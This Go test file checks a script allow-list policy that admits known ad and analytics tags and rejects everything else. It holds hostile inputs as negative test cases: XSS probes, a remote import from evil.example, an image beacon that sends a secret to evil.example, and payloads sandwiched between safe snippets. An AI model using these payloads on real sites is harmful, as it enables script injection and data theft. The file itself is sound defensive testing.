package policy

import (
	"os"
	"path/filepath"
	"testing"
)

func TestTrustedScriptURL(t *testing.T) {
	// WHAT: Hostname suffix matching for external script origins.
	// WHY: The allow-list is the only thing standing between an ad tag
	// and arbitrary third-party code.
	p := Default()
	cases := []struct {
		url  string
		want bool
	}{
		{"https://www.googletagmanager.com/gtm.js?id=GTM-XXXX", true},
		{"https://googletagmanager.com/gtm.js", true},
		{"https://pagead2.googlesyndication.com/pagead/js/adsbygoogle.js", true},
		{"//platform.twitter.com/widgets.js", true}, // protocol-relative
		{"http://cdn.taboola.com/libtrc/loader.js", true},
		{"https://evil.com/gtm.js", false},
		{"https://googletagmanager.com.evil.com/gtm.js", false}, // suffix forgery
		{"https://notgoogletagmanager.com/gtm.js", false},
		{"javascript:alert(1)", false},
		{"data:text/javascript,alert(1)", false},
		{"", false},
		{"://broken", false},
	}
	for _, c := range cases {
		if got := p.TrustedScriptURL(c.url); got != c.want {
			t.Errorf("TrustedScriptURL(%q) = %v, want %v", c.url, got, c.want)
		}
	}
}

func TestSafeInline(t *testing.T) {
	// WHAT: Inline script bodies only survive when they match a known
	// SDK bootstrap shape in full.
	// WHY: Arbitrary JavaScript in a snippet must never reach a page,
	// no matter who saved the snippet.
	p := Default()
	safe := []string{
		`(adsbygoogle = window.adsbygoogle || []).push({});`,
		`window.dataLayer = window.dataLayer || [];`,
		"window.dataLayer = window.dataLayer || [];\nfunction gtag(){dataLayer.push(arguments);}\ngtag('js', new Date());\ngtag('config', 'G-ABC123');",
		`gtag('js', new Date()); gtag('config', 'UA-1234');`,
		`var taboolaConfig = {mode: "thumbnails", container: "below"};`,
		`window._mNHandle = {queue: []};`,
		`_taboola.push({article:'auto'});`,
		`fbq.init('12345');`,
	}
	for _, body := range safe {
		if !p.SafeInline(body) {
			t.Errorf("SafeInline(%q) = false, want true", body)
		}
	}

	unsafe := []string{
		`alert(1)`,
		`alert(1);`,
		`document.cookie = "x=1"`,
		`eval("alert(1)")`,
		`window.location = "https://evil.com"`,
		`fetch("/api/admin/users")`,
		`var x = {}; alert(1);`, // safe prefix, unsafe tail
		`el.innerHTML = payload;`,
		`setTimeout(boom, 10)`,
		``,
		`   `,
	}
	for _, body := range unsafe {
		if p.SafeInline(body) {
			t.Errorf("SafeInline(%q) = true, want false", body)
		}
	}
}

func TestSafeInlineRejectsSandwichedPayloads(t *testing.T) {
	// WHAT: A hostile statement wrapped between two safe-looking
	// bookends never matches a shape, and argument lists cannot carry
	// nested calls.
	// WHY: The shape patterns anchor the whole body; if their interiors
	// admit `;` or `(`, any payload rides inside a "matching" shape and
	// is served to every visitor.
	p := Default()
	unsafe := []string{
		`var x = {}; import('https://evil.example/x.js'); var y = {}`,
		`q.push({}); import('https://evil.example/x.js'); q.push({})`,
		"(adsbygoogle = window.adsbygoogle || []).push({}); steal(); (adsbygoogle = window.adsbygoogle || []).push({})",
		`gtag(alert(1))`,
		`gtag('config', sneak('x'))`,
		`fbq.init(alert(1));`,
		`_taboola.push({a: steal()});`,
		"window.dataLayer = window.dataLayer || [];\nfunction gtag(){import('https://evil.example/x.js')}\ngtag('js');",
		`location.href = "https://evil.example"`,
		`new Image().src = "https://evil.example/?c=" + btoa(secret)`,
		`var x = [WebSocket]`,
	}
	for _, body := range unsafe {
		if p.SafeInline(body) {
			t.Errorf("SafeInline(%q) = true, want false", body)
		}
	}
}

func TestClassify(t *testing.T) {
	// WHAT: Verdicts for the three script kinds.
	// WHY: Downstream code switches on Class; a wrong verdict either
	// drops revenue scripts or admits hostile ones.
	p := Default()
	cases := []struct {
		script Script
		want   Class
	}{
		{Script{Src: "https://www.googletagmanager.com/gtm.js?id=GTM-X"}, ClassTrusted},
		{Script{Src: "https://evil.com/x.js"}, ClassRejected},
		{Script{Body: `(adsbygoogle = window.adsbygoogle || []).push({});`}, ClassSafeInline},
		{Script{Body: `alert(1)`}, ClassRejected},
		// src wins over body: browsers ignore the body of external scripts.
		{Script{Src: "https://evil.com/x.js", Body: `gtag('js', new Date());`}, ClassRejected},
		{Script{}, ClassRejected},
	}
	for _, c := range cases {
		if got := p.Classify(c.script); got != c.want {
			t.Errorf("Classify(%+v) = %v, want %v", c.script, got, c.want)
		}
	}
}

func TestLoadYAML(t *testing.T) {
	// WHAT: Site override files add and remove trusted domains; a
	// missing file is a no-op.
	// WHY: Operators tune the allow-list per deployment without a
	// rebuild.
	dir := t.TempDir()
	path := filepath.Join(dir, "policy.yaml")
	content := `trusted_domains:
  add:
    - cdn.example-ads.fr
  remove:
    - taboola.com
`
	if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
		t.Fatal(err)
	}

	p := Default()
	if err := p.LoadYAML(path); err != nil {
		t.Fatalf("LoadYAML: %v", err)
	}
	if !p.TrustedScriptURL("https://cdn.example-ads.fr/loader.js") {
		t.Error("added domain not trusted")
	}
	if p.TrustedScriptURL("https://cdn.taboola.com/libtrc/loader.js") {
		t.Error("removed domain still trusted")
	}

	// Missing file: no error, no change.
	p2 := Default()
	if err := p2.LoadYAML(filepath.Join(dir, "absent.yaml")); err != nil {
		t.Fatalf("missing file should be a no-op: %v", err)
	}
	if len(p2.TrustedDomains) != len(Default().TrustedDomains) {
		t.Error("missing file changed the policy")
	}

	// Malformed file: error.
	bad := filepath.Join(dir, "bad.yaml")
	os.WriteFile(bad, []byte("trusted_domains: [unclosed"), 0o600)
	if err := Default().LoadYAML(bad); err == nil {
		t.Error("malformed file should error")
	}
}
